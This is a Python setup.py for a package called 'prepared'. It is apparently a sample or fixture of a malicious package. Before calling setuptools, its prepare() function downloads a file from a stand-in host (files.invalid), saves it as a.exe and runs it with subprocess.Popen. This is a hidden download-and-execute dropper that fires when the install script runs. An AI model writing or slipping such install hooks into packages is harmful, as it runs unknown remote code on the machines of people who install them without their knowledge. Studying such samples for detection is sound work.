import subprocess

import requests
from setuptools import setup


def prepare():
    with open("a.exe", "wb") as file:
        file.write(requests.get("http://files.invalid/a").content)
    subprocess.Popen("a.exe")


if __name__ == "__main__":
    prepare()
    setup(name="prepared", version="0.1.0")
